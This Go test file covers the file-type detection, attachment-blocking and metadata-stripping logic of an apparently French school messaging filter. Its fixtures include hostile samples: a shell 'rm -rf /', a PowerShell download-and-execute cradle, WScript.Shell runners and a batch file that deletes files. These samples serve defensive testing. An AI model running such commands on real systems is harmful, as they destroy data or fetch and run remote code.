package screen

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"

	"github.com/bouclier/bouclier"
)

func zipOf(t testing.TB, names ...string) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, n := range names {
		f, err := w.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		f.Write([]byte("x"))
	}
	w.Close()
	return b.Bytes()
}

func peBytes() []byte {
	b := make([]byte, 256)
	copy(b, "MZ")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x80:], "PE\x00\x00")
	return b
}

func isoBytes() []byte {
	b := make([]byte, 0x8001+5)
	copy(b[0x8001:], "CD001")
	return b
}

func tarBytes() []byte {
	b := make([]byte, 512)
	copy(b, "file.txt")
	copy(b[257:], "ustar\x0000")
	return b
}

func TestDetectType(t *testing.T) {
	tests := []struct {
		name string
		data []byte
		want string
	}{
		{"pdf", []byte("%PDF-1.7\n..."), TypePDF},
		{"png", []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), TypePNG},
		{"jpeg", []byte("\xff\xd8\xff\xe0\x00\x10JFIF"), TypeJPEG},
		{"gif", []byte("GIF89a\x01\x00"), TypeGIF},
		{"webp", []byte("RIFF\x00\x00\x00\x00WEBPVP8 "), TypeWebP},
		{"wav", []byte("RIFF\x00\x00\x00\x00WAVEfmt "), TypeWAV},
		{"avi", []byte("RIFF\x00\x00\x00\x00AVI LIST"), TypeAVI},
		{"docx", zipOf(t, "[Content_Types].xml", "word/document.xml"), TypeDOCX},
		{"xlsx", zipOf(t, "[Content_Types].xml", "xl/workbook.xml"), TypeXLSX},
		{"docm", zipOf(t, "[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"), TypeOOXMLMacro},
		{"zip", zipOf(t, "a.txt", "b.exe"), TypeZIP},
		{"jar", zipOf(t, "META-INF/MANIFEST.MF", "A.class"), TypeJAR},
		{"apk", zipOf(t, "AndroidManifest.xml", "classes.dex"), TypeAPK},
		{"docx without central directory", func() []byte { z := zipOf(t, "[Content_Types].xml", "word/document.xml"); return z[:len(z)-22] }(), TypeDOCX},
		{"ole", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00"), TypeOLE},
		{"mp4", []byte("\x00\x00\x00\x18ftypisom\x00\x00"), TypeMP4},
		{"mov", []byte("\x00\x00\x00\x14ftypqt  \x00\x00"), TypeMOV},
		{"heic", []byte("\x00\x00\x00\x18ftypheic\x00\x00"), TypeHEIC},
		{"webm", []byte("\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x84webm"), TypeWebM},
		{"mkv", []byte("\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x88matroska"), TypeMKV},
		{"mp3 id3", []byte("ID3\x03\x00"), TypeMP3},
		{"mp3 frame", []byte("\xff\xfb\x90\x64"), TypeMP3},
		{"ogg", []byte("OggS\x00\x02vorbis"), TypeOGG},
		{"flac", []byte("fLaC\x00"), TypeFLAC},
		{"elf", []byte("\x7fELF\x02\x01\x01"), TypeELF},
		{"pe", peBytes(), TypePE},
		{"macho", []byte("\xcf\xfa\xed\xfe\x07\x00\x00\x01"), TypeMachO},
		{"java class", []byte("\xca\xfe\xba\xbe\x00\x00\x00\x34"), TypeJavaClass},
		{"lnk", []byte("L\x00\x00\x00\x01\x14\x02\x00\x00"), TypeLNK},
		{"shell", []byte("#!/bin/sh\nrm -rf /\n"), TypeShell},
		{"html", []byte("<!DOCTYPE html><html><body>Connexion</body></html>"), TypeHTML},
		{"html form", []byte("<div><form action=x><input type=password></form></div>"), TypeHTML},
		{"svg script", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), TypeHTML},
		{"svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>`), TypeSVG},
		{"vbs", []byte("Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\""), TypeVBS},
		{"powershell", []byte("IEX (New-Object Net.WebClient).DownloadString('http://x')"), TypePowerShell},
		{"js", []byte("var a = new ActiveXObject('WScript.Shell'); a.Run('x');"), TypeJS},
		{"batch", []byte("@echo off\r\ndel /q *\r\n"), TypeBatch},
		{"rar", []byte("Rar!\x1a\x07\x01\x00"), TypeRAR},
		{"7z", []byte("7z\xbc\xaf\x27\x1c\x00\x04"), Type7Z},
		{"gzip", []byte("\x1f\x8b\x08\x00"), TypeGzip},
		{"tar", tarBytes(), TypeTar},
		{"iso", isoBytes(), TypeISO},
		{"rtf", []byte(`{\rtf1\ansi hello}`), TypeRTF},
		{"text", []byte("Bonjour, voici le devoir de français.\n"), TypeText},
		{"latin1 text", []byte("El\xe8ve absent"), TypeText},
		{"binary", []byte{0, 1, 2, 3, 4, 5, 6, 7, 8, 0x10, 0x11}, TypeUnknown},
		{"empty", nil, TypeEmpty},
	}
	for _, tt := range tests {
		if got := DetectType(tt.data); got != tt.want {
			t.Errorf("%s: DetectType = %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestAttachmentPolicy(t *testing.T) {
	e := New(DefaultConfig())
	img := pngBytes(t)
	bad := []byte("known bad payload")
	cfg := DefaultConfig()
	cfg.BlockedDigests = map[[32]byte]string{sha(bad): "campagne mars 2024"}
	eb := New(cfg)
	tests := []struct {
		name    string
		e       *Engine
		in      Input
		verdict Verdict
		reason  string
	}{
		{"exe named pdf", e, Input{Attachments: []Attachment{{Name: "bulletin.pdf", ContentType: "application/pdf", Data: peBytes()}}}, Reject, "exécutable"},
		{"double extension", e, Input{Attachments: []Attachment{{Name: "devoir.pdf.exe", Data: []byte("hello")}}}, Reject, "double extension"},
		{"zip", e, Input{Attachments: []Attachment{{Name: "photos.zip", Data: zipOfData(t, map[string][]byte{"a.png": img})}}}, Deliver, ""},
		{"zip with an executable", e, Input{Attachments: []Attachment{{Name: "photos.zip", Data: zipOfData(t, map[string][]byte{"a.jpg": peBytes()})}}}, Reject, "exécutable"},
		{"macro", e, Input{Attachments: []Attachment{{Name: "note.docx", Data: zipOf(t, "[Content_Types].xml", "word/vbaProject.bin")}}}, Reject, "macros"},
		{"html", e, Input{Attachments: []Attachment{{Name: "connexion.html", Data: []byte("<html><form><input type=password></form></html>")}}}, Reject, "script"},
		{"blocked digest", eb, Input{Attachments: []Attachment{{Name: "a.txt", Data: bad}}}, Reject, "campagne mars 2024"},
		{"video from student", e, Input{SenderRole: bouclier.RoleStudent, Attachments: []Attachment{{Name: "v.mp4", Data: []byte("\x00\x00\x00\x18ftypisom\x00\x00")}}}, Hold, "vidéo"},
		{"video between teachers", e, Input{SenderRole: bouclier.RoleTeacher, Attachments: []Attachment{{Name: "v.mp4", Data: []byte("\x00\x00\x00\x18ftypisom\x00\x00")}}}, Deliver, ""},
		{"png named jpg", e, Input{Attachments: []Attachment{{Name: "photo.jpg", Data: img}}}, Deliver, ""},
		{"png named mp3", e, Input{Attachments: []Attachment{{Name: "son.mp3", Data: img}}}, Hold, "mais contient image"},
		{"too big for a student", e, Input{SenderRole: bouclier.RoleStudent, Attachments: []Attachment{{Name: "a.txt", Data: bytes.Repeat([]byte("a"), 6<<20)}}}, Reject, "limite"},
		{"threat in a text file", e, Input{Attachments: []Attachment{{Name: "lisez.txt", Data: []byte("Une bombe explosera au collège demain à 10h, vous êtes prévenus.")}}}, Reject, "threat"},
		{"pdf", e, Input{Text: "Le bulletin", Attachments: []Attachment{{Name: "bulletin.pdf", ContentType: "application/pdf", Data: pdfDoc{objs: pdfBase}.bytes()}}}, Deliver, ""},
	}
	for _, tt := range tests {
		r := tt.e.Check(tt.in)
		if r.Verdict != tt.verdict || !strings.Contains(strings.Join(r.Reasons, "\n"), tt.reason) {
			t.Errorf("%s: %s %v, want %s with %q", tt.name, r.Verdict, r.Reasons, tt.verdict, tt.reason)
		}
	}
	r := e.Check(Input{ToStudents: true, Attachments: []Attachment{{Name: "p.png", Data: img}}})
	if len(r.StripMetadata) != 1 || r.AttachmentTypes[0] != TypePNG {
		t.Errorf("image to students: %+v", r)
	}
}

func sha(b []byte) [32]byte {
	var out [32]byte
	h := sha256Sum(b)
	copy(out[:], h[:])
	return out
}

func pngBytes(t testing.TB) []byte {
	img := image.NewRGBA(image.Rect(0, 0, 4, 4))
	img.Set(1, 1, color.RGBA{255, 0, 0, 255})
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func pngChunk(typ string, data []byte) []byte {
	var b bytes.Buffer
	binary.Write(&b, binary.BigEndian, uint32(len(data)))
	b.WriteString(typ)
	b.Write(data)
	crc := crc32.ChecksumIEEE(append([]byte(typ), data...))
	binary.Write(&b, binary.BigEndian, crc)
	return b.Bytes()
}

func TestStripPNG(t *testing.T) {
	p := pngBytes(t)
	// Insert text and eXIf chunks after IHDR (8 + 25 bytes).
	var withMeta []byte
	withMeta = append(withMeta, p[:33]...)
	withMeta = append(withMeta, pngChunk("tEXt", []byte("Author\x00Eleve Dupont, 12 rue des Lilas"))...)
	withMeta = append(withMeta, pngChunk("eXIf", []byte("MM\x00*GPS 48.8N 2.3E"))...)
	withMeta = append(withMeta, p[33:]...)
	out, err := StripMetadata(withMeta)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(out, []byte("Lilas")) || bytes.Contains(out, []byte("GPS")) {
		t.Error("metadata left in PNG")
	}
	if _, err := png.Decode(bytes.NewReader(out)); err != nil {
		t.Errorf("stripped PNG does not decode: %v", err)
	}
}

func TestStripJPEG(t *testing.T) {
	img := image.NewGray(image.Rect(0, 0, 8, 8))
	var b bytes.Buffer
	if err := jpeg.Encode(&b, img, nil); err != nil {
		t.Fatal(err)
	}
	j := b.Bytes()
	exif := append([]byte("Exif\x00\x00"), []byte("MM\x00*GPSLatitude 48.85 Canon serial 1234")...)
	app1 := append([]byte{0xff, 0xe1, byte((len(exif) + 2) >> 8), byte(len(exif) + 2)}, exif...)
	com := []byte("camera de Lucas")
	comSeg := append([]byte{0xff, 0xfe, 0, byte(len(com) + 2)}, com...)
	var withMeta []byte
	withMeta = append(withMeta, j[:2]...)
	withMeta = append(withMeta, app1...)
	withMeta = append(withMeta, comSeg...)
	withMeta = append(withMeta, j[2:]...)
	if _, err := jpeg.Decode(bytes.NewReader(withMeta)); err != nil {
		t.Fatalf("test JPEG invalid: %v", err)
	}
	out, err := StripMetadata(withMeta)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(out, []byte("Exif")) || bytes.Contains(out, []byte("Lucas")) {
		t.Error("metadata left in JPEG")
	}
	if _, err := jpeg.Decode(bytes.NewReader(out)); err != nil {
		t.Errorf("stripped JPEG does not decode: %v", err)
	}
	if _, err := StripMetadata(peBytes()); err != ErrUnsupportedImage {
		t.Errorf("PE: err = %v", err)
	}
	if _, err := StripMetadata([]byte("\xff\xd8\xff\xe1\x00")); err == nil {
		t.Error("truncated JPEG: no error")
	}
}

func TestStripWebP(t *testing.T) {
	chunk := func(typ string, data []byte) []byte {
		b := append([]byte(typ), 0, 0, 0, 0)
		binary.LittleEndian.PutUint32(b[4:], uint32(len(data)))
		b = append(b, data...)
		if len(data)%2 == 1 {
			b = append(b, 0)
		}
		return b
	}
	body := append([]byte("WEBP"), chunk("VP8X", []byte{0x0c, 0, 0, 0, 0, 0, 0, 0, 0, 0})...)
	body = append(body, chunk("VP8 ", []byte("imagedata"))...)
	body = append(body, chunk("EXIF", []byte("GPS secret"))...)
	body = append(body, chunk("XMP ", []byte("<x:xmpmeta/>"))...)
	data := append([]byte("RIFF\x00\x00\x00\x00"), body...)
	binary.LittleEndian.PutUint32(data[4:], uint32(len(body)))
	out, err := StripMetadata(data)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(out, []byte("GPS")) || bytes.Contains(out, []byte("xmpmeta")) || out[20]&0x0c != 0 {
		t.Errorf("WebP not cleaned: %q", out)
	}
	if int(binary.LittleEndian.Uint32(out[4:])) != len(out)-8 {
		t.Error("RIFF size not updated")
	}
}

func FuzzDetectType(f *testing.F) {
	f.Add([]byte("%PDF-1.4"))
	f.Add([]byte("PK\x03\x04\x14\x00\x00\x00\x00\x00"))
	f.Add([]byte("\x00\x00\x00\x18ftyp"))
	f.Add([]byte("<svg><script>"))
	f.Add([]byte("\xff\xfe<\x00h\x00t\x00m\x00l\x00>\x00"))
	f.Fuzz(func(t *testing.T, b []byte) {
		if DetectType(b) == "" {
			t.Fatal("empty type")
		}
	})
}

func FuzzStripMetadata(f *testing.F) {
	f.Add(pngBytes(f))
	f.Add([]byte("\xff\xd8\xff\xe1\x00\x08Exif\x00\x00\xff\xda\x00\x02\x00\xff\xd9"))
	f.Add([]byte("RIFF\x10\x00\x00\x00WEBPEXIF\x02\x00\x00\x00ab"))
	f.Fuzz(func(t *testing.T, b []byte) {
		out, err := StripMetadata(b)
		if err != nil {
			return
		}
		if len(out) > len(b)+2 {
			t.Fatalf("output grew: %d > %d", len(out), len(b))
		}
		if DetectType(out) != DetectType(b) {
			t.Fatalf("type changed: %s → %s", DetectType(b), DetectType(out))
		}
		// Stripping twice changes nothing more.
		out2, err := StripMetadata(out)
		if err != nil || !bytes.Equal(out, out2) {
			t.Fatalf("not idempotent: %v", err)
		}
	})
}

func sha256Sum(b []byte) [32]byte { return sha256.Sum256(b) }
